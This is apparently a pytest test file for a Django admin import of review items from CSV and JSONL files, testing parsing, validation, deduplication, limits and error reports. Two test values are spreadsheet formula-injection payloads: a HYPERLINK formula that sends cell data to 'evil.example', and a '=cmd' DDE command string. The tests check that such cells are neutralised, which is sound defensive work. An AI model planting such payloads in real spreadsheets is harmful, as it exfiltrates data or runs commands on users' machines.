"""File imports through the admin pages, jobs run inline after commit."""

import pytest
from django.urls import reverse

from reviews.imports.admin import error_report_csv
from reviews.models import ImportStatus, ItemImport, ReviewItem
from tests.imports.helpers import (
    MAPPING,
    error_report,
    item_row,
    jsonl,
    map_fields,
    start,
    upload,
)

pytestmark = pytest.mark.usefixtures("import_dir", "inline_jobs")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def test_csv_with_quoted_newlines_and_a_formula_cell_is_stored_as_text(
    admin_client, project, django_capture_on_commit_callbacks
):
    content = (
        "id,question,answer,model,version,score\r\n"
        'a-1,"First line\nsecond line, with a comma","Answer ""quoted""\r\nover two lines",'
        "acme,v1,0.5\r\n"
        f'a-2,"{FORMULA.replace(chr(34), chr(34) * 2)}",+SUM(1;2),acme,v1,\r\n'
    ).encode()
    response = upload(admin_client, project, "sheet.csv", content)
    assert response.status_code == 302
    preview = admin_client.get(response["Location"])
    assert preview.status_code == 200
    # Columns named like fields (or their usual aliases) are mapped already.
    assert b'<option value="question" selected>' in preview.content
    assert b"First line" in preview.content

    item_import = start(
        admin_client,
        project,
        "sheet.csv",
        content,
        mapping={
            "external_id": "id",
            "prompt": "question",
            "output": "answer",
            "model_name": "model",
            "model_version": "version",
            "confidence": "score",
        },
        capture=django_capture_on_commit_callbacks,
    )
    item_import.refresh_from_db()
    assert item_import.status == ImportStatus.DONE, item_import.error
    assert (item_import.total_rows, item_import.created_count, item_import.error_count) == (2, 2, 0)
    first = ReviewItem.objects.get(project=project, external_id="a-1")
    assert first.prompt == "First line\nsecond line, with a comma"
    assert first.output == 'Answer "quoted"\r\nover two lines'
    assert first.confidence == 0.5
    second = ReviewItem.objects.get(project=project, external_id="a-2")
    assert second.prompt == FORMULA
    assert second.output == "+SUM(1;2)"
    assert second.confidence is None
    history = second.history.get()
    assert history.history_user_id == item_import.created_by_id
    assert f"file import #{item_import.pk}" in history.history_change_reason


def test_three_bad_rows_are_reported_good_rows_stored_once_and_a_reupload_adds_nothing(
    admin_client, project, django_capture_on_commit_callbacks
):
    rows = [item_row(n) for n in range(1, 11)]
    rows[1] = '{"external_id": "row-2", "prompt": '  # row 2: cut off
    rows[3] = item_row(4, prompt="")  # row 4: blank prompt
    rows[5] = item_row(6, confidence=1.5)  # row 6: out of range
    content = jsonl(rows)

    first = start(
        admin_client, project, "batch.jsonl", content, capture=django_capture_on_commit_callbacks
    )
    first.refresh_from_db()
    assert first.status == ImportStatus.DONE
    assert (first.created_count, first.existing_count, first.error_count) == (7, 0, 3)
    assert ReviewItem.objects.filter(project=project).count() == 7
    assert not ReviewItem.objects.filter(external_id__in=["row-2", "row-4", "row-6"]).exists()
    report = error_report(admin_client, first)
    assert report[0] == ["row", "field", "message"]
    assert [(row, field) for row, field, _message in report[1:]] == [
        ("2", ""),
        ("4", "prompt"),
        ("6", "confidence"),
    ]
    assert "not valid JSON" in report[1][2]
    assert report[2][2] == "This field may not be blank."

    again = start(
        admin_client, project, "batch.jsonl", content, capture=django_capture_on_commit_callbacks
    )
    again.refresh_from_db()
    assert (again.created_count, again.existing_count, again.error_count) == (0, 7, 3)
    assert ReviewItem.objects.filter(project=project).count() == 7
    assert ReviewItem.history.filter(project_id=project.pk).count() == 7


def test_a_row_whose_id_is_stored_with_other_content_is_refused_not_half_stored(
    admin_client, project, django_capture_on_commit_callbacks
):
    start(
        admin_client,
        project,
        "a.jsonl",
        jsonl([item_row(1)]),
        capture=django_capture_on_commit_callbacks,
    )
    changed = jsonl([item_row(1, output="Something else"), item_row(2), item_row(2, output="x")])
    item_import = start(
        admin_client, project, "b.jsonl", changed, capture=django_capture_on_commit_callbacks
    )
    item_import.refresh_from_db()
    assert (item_import.created_count, item_import.error_count) == (1, 2)
    assert ReviewItem.objects.get(external_id="row-1").output == item_row(1)["output"]
    messages = [message for _row, _field, message in error_report(admin_client, item_import)[1:]]
    assert messages == [
        "An item with this external_id is stored with different content.",
        "Repeated with different content (first at row 2).",
    ]


def test_progress_endpoint_reports_the_finished_counts(
    admin_client, project, django_capture_on_commit_callbacks
):
    item_import = start(
        admin_client,
        project,
        "p.jsonl",
        jsonl([item_row(1), item_row(2)]),
        capture=django_capture_on_commit_callbacks,
    )
    progress = admin_client.get(reverse("admin:reviews_itemimport_progress", args=[item_import.pk]))
    assert progress.json() == {
        "status": "done",
        "status_label": "Done",
        "total_rows": 2,
        "processed_rows": 2,
        "created": 2,
        "existing": 0,
        "errors": 0,
        "error": "",
        "finished": True,
    }
    page = admin_client.get(reverse("admin:reviews_itemimport_change", args=[item_import.pk]))
    assert page.status_code == 200
    assert b"reviews/imports.js" in page.content


def test_too_many_rows_fail_the_import_before_anything_is_stored(
    admin_client, project, settings, django_capture_on_commit_callbacks
):
    settings.HITL_IMPORT_MAX_ROWS = 3
    item_import = start(
        admin_client,
        project,
        "big.jsonl",
        jsonl([item_row(n) for n in range(5)]),
        capture=django_capture_on_commit_callbacks,
    )
    item_import.refresh_from_db()
    assert item_import.status == ImportStatus.FAILED
    assert item_import.error == "The file holds 5 rows; at most 3 are accepted."
    assert not ReviewItem.objects.exists()


def test_an_oversize_or_unknown_file_is_refused_naming_the_file_field(
    admin_client, project, settings
):
    settings.HITL_IMPORT_MAX_BYTES = 10
    response = upload(admin_client, project, "big.jsonl", jsonl([item_row(1)]))
    assert response.status_code == 400
    assert b"at most 10 are accepted" in response.content
    response = upload(admin_client, project, "sheet.xlsx", b"PK\x03\x04")
    assert response.status_code == 400
    assert b"Upload a .jsonl (JSON Lines) or .csv file." in response.content
    assert not ItemImport.objects.exists()


def test_a_broken_csv_fails_whole_and_stores_nothing(
    admin_client, project, django_capture_on_commit_callbacks
):
    header = "external_id,prompt,output,model_name,model_version\r\n"
    rows = "".join(f"r{n},p{n},o{n},m,v\r\n" for n in range(50))
    # The preview's first rows read fine; a later row is not UTF-8.
    content = (header + rows).encode() + b"r99,\xff\xfe,o,m,v\r\n"
    mapping = {k: v for k, v in MAPPING.items() if k != "confidence"}
    item_import = start(
        admin_client,
        project,
        "broken.csv",
        content,
        mapping=mapping,
        capture=django_capture_on_commit_callbacks,
    )
    item_import.refresh_from_db()
    assert item_import.status == ImportStatus.FAILED
    assert item_import.error == "The file is not UTF-8 text."
    assert not ReviewItem.objects.exists()


def test_an_unmapped_required_field_is_a_form_error_and_nothing_is_queued(admin_client, project):
    response = upload(admin_client, project, "a.jsonl", jsonl([item_row(1)]))
    url = response["Location"]
    mapping = {k: v for k, v in MAPPING.items() if k != "prompt"}
    response = admin_client.post(url, {**map_fields(mapping), "confirm": "1"})
    assert response.status_code == 400
    assert b"Map a column to this field." in response.content
    assert ItemImport.objects.get().status == ImportStatus.DRAFT


def test_fixed_model_name_and_version_fill_a_file_without_them(
    admin_client, project, django_capture_on_commit_callbacks
):
    rows = [{"external_id": "x1", "prompt": "p", "output": "o"}]
    response = upload(admin_client, project, "a.jsonl", jsonl(rows))
    mapping = {"external_id": "external_id", "prompt": "prompt", "output": "output"}
    data = {**map_fields(mapping, model_name="acme", model_version="v7"), "confirm": "1"}
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(response["Location"], data)
    assert response.status_code == 302
    item = ReviewItem.objects.get(external_id="x1")
    assert (item.model_name, item.model_version) == ("acme", "v7")


def test_the_error_report_quotes_cells_a_spreadsheet_would_evaluate():
    rows = [(3, "=cmd|' /C calc'!A0", "+1"), (4, "prompt", "@SUM(A1)"), (5, "output", "fine")]
    text = "".join(error_report_csv(rows))
    assert text.splitlines() == [
        "row,field,message",
        "3,'=cmd|' /C calc'!A0,'+1",
        "4,prompt,'@SUM(A1)",
        "5,output,fine",
    ]
